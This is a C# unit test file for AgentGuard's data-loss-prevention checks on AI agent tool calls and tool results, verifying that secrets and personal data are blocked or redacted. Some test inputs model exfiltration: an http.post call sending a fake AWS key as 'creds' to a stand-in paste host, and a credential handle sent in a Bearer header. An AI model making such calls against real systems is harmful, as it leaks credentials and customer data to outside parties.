using System.Text.Json;
using Microsoft.Extensions.Options;

namespace AgentGuard.Core.Tests.Dlp;

/// <summary>The DLP stages end to end through <see cref="AgentGuardEngine"/> with a persona built in code.</summary>
public sealed class DlpChecksTests
{
    private const string PersonaId = "support";

    private static AgentGuardEngine CreateEngine(DlpPolicy? dlp = null, DlpOptions? options = null, EnforcementMode mode = EnforcementMode.Enforce)
    {
        var persona = new Persona
        {
            Id = PersonaId,
            Description = "Answers customers and looks records up.",
            Owner = "support-platform",
            Maturity = Maturity.Principal,
            Tools =
            [
                new ToolGrant { Name = "crm.lookup" },
                new ToolGrant { Name = "notes.save" },
                new ToolGrant
                {
                    Name = "email.send",
                    Egress = true,
                    Args = new Dictionary<string, ArgumentConstraint>
                    {
                        ["to"] = new() { AllowedDomains = ["contoso.com"] },
                        ["subject"] = new(),
                        ["body"] = new(),
                    },
                },
                new ToolGrant { Name = "http.post", Egress = true },
            ],
            Dlp = dlp ?? new DlpPolicy(),
        };
        var policy = new PolicyBuilder()
            .AddPersona(persona)
            .AddCatalogTool(new CatalogTool { Name = "crm.lookup", Sensitive = true })
            .AddCatalogTool(new CatalogTool { Name = "notes.save" })
            .AddCatalogTool(new CatalogTool { Name = "email.send", Egress = true, Risk = ToolRisk.High })
            .AddCatalogTool(new CatalogTool { Name = "http.post", Egress = true })
            .Build();
        var store = new InMemorySessionStateStore();
        var dlpChecks = DlpChecks.Create(options);
        return new AgentGuardEngine(
            new StaticPolicyProvider(policy),
            [.. AgentGuardEngine.CreateDefaultChecks(store), dlpChecks.ArgumentsCheck],
            [dlpChecks.ResultCheck],
            store,
            Options.Create(new AgentGuardOptions { Mode = mode }));
    }

    private static ToolCall Call(string tool, object args) => new()
    {
        ToolName = tool,
        SessionId = "s1",
        UserId = "alice",
        Persona = PersonaId,
        Arguments = JsonSerializer.SerializeToElement(args),
    };

    [Fact]
    public async Task Authorize_SecretInEgressArguments_IsBlocked()
    {
        var key = Fake.AwsKeyId(1);
        var decision = await CreateEngine().AuthorizeAsync(Call("http.post", new { url = "https://paste.example.net", data = new[] { "x", $"creds {key}" } }), TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Deny, decision.EnforcedAction);
        Assert.Contains("dlp.block", decision.RuleIds);
        Assert.Contains("aws_access_key_id (secret) at $.data[1]", decision.Explain(), StringComparison.Ordinal);
        Assert.DoesNotContain(key, decision.Explain(), StringComparison.Ordinal);
        var finding = Assert.Single(decision.Findings);
        Assert.Equal(new GuardFinding(DlpDetectorNames.AwsAccessKeyId, "secret", "$.data[1]", 6, 20, "block"), finding);
    }

    [Fact]
    public async Task Authorize_SecretInOtherToolArguments_IsRedacted()
    {
        var token = "gh" + "p_" + Fake.Alnum(36, 2);
        var decision = await CreateEngine().AuthorizeAsync(Call("notes.save", new { text = $"use {token} later", n = 3 }), TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Redact, decision.EnforcedAction);
        Assert.True(decision.IsAllowed);
        Assert.Equal("{\"text\":\"use [REDACTED:github_pat] later\",\"n\":3}", decision.RedactedArguments!.Value.GetRawText());
        Assert.Equal("redact", Assert.Single(decision.Findings).Action);
    }

    [Fact]
    public async Task Authorize_CleanArguments_AreNotTouched()
    {
        var decision = await CreateEngine().AuthorizeAsync(Call("notes.save", new { text = "call me back tomorrow", n = 3 }), TestContext.Current.CancellationToken);
        Assert.Same(GuardDecision.Allowed, decision);
        Assert.Null(decision.RedactedArguments);
    }

    [Fact]
    public async Task Authorize_PersonaAllowsEgressFindings_RecordsThemOnly()
    {
        var engine = CreateEngine(new DlpPolicy { EgressArgs = DlpAction.Allow });
        var decision = await engine.AuthorizeAsync(Call("http.post", new { data = "reach me at bob@fabrikam.com" }), TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Allow, decision.EnforcedAction);
        Assert.Null(decision.RedactedArguments);
        Assert.Equal("allow", Assert.Single(decision.Findings).Action);
    }

    [Fact]
    public async Task Authorize_CredentialHandleLeavingThroughEgress_IsAlwaysBlocked()
    {
        var options = new DlpOptions();
        options.DetectorActions[DlpDetectorNames.AgentGuardHandle] = DlpAction.Allow;
        options.DetectorActions["secret"] = DlpAction.Allow;
        var engine = CreateEngine(new DlpPolicy { EgressArgs = DlpAction.Allow, Args = DlpAction.Allow }, options);
        var handle = "agh" + "_" + Fake.Base64Url(24, 3);

        var egress = await engine.AuthorizeAsync(Call("http.post", new { headers = new { authorization = $"Bearer {handle}" } }), TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Deny, egress.EnforcedAction);
        Assert.Equal("block", Assert.Single(egress.Findings).Action);

        var local = await engine.AuthorizeAsync(Call("notes.save", new { text = handle }), TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Allow, local.EnforcedAction);
        Assert.Equal(new GuardFinding(DlpDetectorNames.AgentGuardHandle, "secret", "$.text", 0, handle.Length, "allow"), Assert.Single(local.Findings));
    }

    [Fact]
    public async Task Authorize_PersonalDataInAPinnedArgument_IsAllowedButNotElsewhere()
    {
        var engine = CreateEngine();
        var ok = await engine.AuthorizeAsync(Call("email.send", new { to = "bob@contoso.com", subject = "hi", body = "see you" }), TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Allow, ok.EnforcedAction);
        Assert.Equal(new GuardFinding(DlpDetectorNames.EmailAddress, "pii", "$.to", 0, 15, "allow"), Assert.Single(ok.Findings));

        var leak = await engine.AuthorizeAsync(Call("email.send", new { to = "bob@contoso.com", subject = "list", body = "customer ann@fabrikam.com 536-22-1234" }), TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Deny, leak.EnforcedAction);
        Assert.Equal(["allow", "block", "block"], leak.Findings.Select(f => f.Action));

        var secretInPinned = await engine.AuthorizeAsync(Call("email.send", new { to = Fake.AwsKeyId(4) + "@contoso.com", subject = "x", body = "y" }), TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Deny, secretInPinned.EnforcedAction);
    }

    [Fact]
    public async Task Authorize_DetectorAndKindOverrides_ChangeTheAction()
    {
        var options = new DlpOptions();
        options.DetectorActions[DlpDetectorNames.EmailAddress] = DlpAction.Allow;
        options.DetectorActions["pii"] = DlpAction.Redact;
        var decision = await CreateEngine(options: options).AuthorizeAsync(Call("http.post", new { data = "bob@fabrikam.com 10.1.2.3" }), TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Redact, decision.EnforcedAction);
        Assert.Equal(["allow", "redact"], decision.Findings.Select(f => f.Action));
        Assert.Equal("{\"data\":\"bob@fabrikam.com [REDACTED:ipv4_address]\"}", decision.RedactedArguments!.Value.GetRawText());
    }

    [Fact]
    public async Task Authorize_SecretInPropertyNameOfEgressArguments_IsBlocked()
    {
        var key = Fake.AwsKeyId(5);
        using var doc = JsonDocument.Parse($"{{\"{key}\":1}}");
        var call = Call("http.post", new { }) with { Arguments = doc.RootElement.Clone() };
        var decision = await CreateEngine().AuthorizeAsync(call, TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Deny, decision.EnforcedAction);
        Assert.DoesNotContain(key, decision.Explain(), StringComparison.Ordinal);
        Assert.DoesNotContain(key, Assert.Single(decision.Findings).Location, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Authorize_ArgumentsTooDeepToScan_AreRefused()
    {
        var engine = CreateEngine(options: new DlpOptions { MaxJsonDepth = 8 });
        using var doc = JsonDocument.Parse("{\"a\":" + new string('[', 20) + new string(']', 20) + "}");
        var decision = await engine.AuthorizeAsync(Call("notes.save", new { }) with { Arguments = doc.RootElement.Clone() }, TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Deny, decision.EnforcedAction);
        Assert.Contains("dlp.unscannable", decision.RuleIds);
    }

    [Fact]
    public async Task Authorize_MonitorMode_RecordsButDoesNotEnforce()
    {
        var decision = await CreateEngine(mode: EnforcementMode.Monitor).AuthorizeAsync(Call("http.post", new { data = Fake.AwsKeyId(6) }), TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Deny, decision.Verdict);
        Assert.Equal(GuardVerdict.Allow, decision.EnforcedAction);
        Assert.Single(decision.Findings);
    }

    [Fact]
    public async Task InspectResult_TextWithSecretAndPersonalData_IsRedacted()
    {
        var key = Fake.AwsKeyId(7);
        var result = ToolResult.FromText($"customer ann@fabrikam.com, key {key}") with { RecordCount = 1, Resource = "crm/customers/7" };
        var decision = await CreateEngine().InspectResultAsync(Call("crm.lookup", new { id = 7 }), result, TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Redact, decision.EnforcedAction);
        Assert.Equal("customer [REDACTED:email_address], key [REDACTED:aws_access_key_id]", decision.RedactedResult!.GetContentText());
        Assert.Equal((1L, "crm/customers/7"), (decision.RedactedResult.RecordCount!.Value, decision.RedactedResult.Resource!));
        Assert.Equal(
            [new GuardFinding(DlpDetectorNames.EmailAddress, "pii", "$", 9, 16, "redact"), new GuardFinding(DlpDetectorNames.AwsAccessKeyId, "secret", "$", 31, 20, "redact")],
            decision.Findings);
    }

    [Fact]
    public async Task InspectResult_JsonRecords_RedactsValuesInPlace()
    {
        var card = Fake.Card("45", 16, 8);
        var content = JsonSerializer.SerializeToElement(new { items = new object[] { new { name = "Ann", card }, new { name = "Bob", phone = "+1 (415) 555-2671" } }, total = 2 });
        var decision = await CreateEngine().InspectResultAsync(Call("crm.lookup", new { q = "a" }), new ToolResult { Content = content }, TestContext.Current.CancellationToken);
        Assert.Equal("{\"items\":[{\"name\":\"Ann\",\"card\":\"[REDACTED:credit_card]\"},{\"name\":\"Bob\",\"phone\":\"[REDACTED:phone_number]\"}],\"total\":2}", decision.RedactedResult!.Content!.Value.GetRawText());
        Assert.Equal(["$.items[0].card", "$.items[1].phone"], decision.Findings.Select(f => f.Location));
    }

    [Fact]
    public async Task InspectResult_PersonaBlocksResults_WithholdsIt()
    {
        var key = Fake.AwsKeyId(9);
        var decision = await CreateEngine(new DlpPolicy { Results = DlpAction.Block }).InspectResultAsync(Call("crm.lookup", new { id = 1 }), ToolResult.FromText($"key {key}"), TestContext.Current.CancellationToken);
        Assert.Equal(GuardVerdict.Deny, decision.EnforcedAction);
        var text = decision.RedactedResult!.GetContentText()!;
        Assert.StartsWith("withheld by AgentGuard", text, StringComparison.Ordinal);
        Assert.DoesNotContain(key, text, StringComparison.Ordinal);
        Assert.Contains("dlp.block", decision.RuleIds);
    }

    [Fact]
    public async Task InspectResult_CleanResult_IsNotTouched()
    {
        var decision = await CreateEngine().InspectResultAsync(Call("crm.lookup", new { id = 1 }), ToolResult.FromText("no sensitive data here"), TestContext.Current.CancellationToken);
        Assert.Same(GuardDecision.Allowed, decision);
    }
}
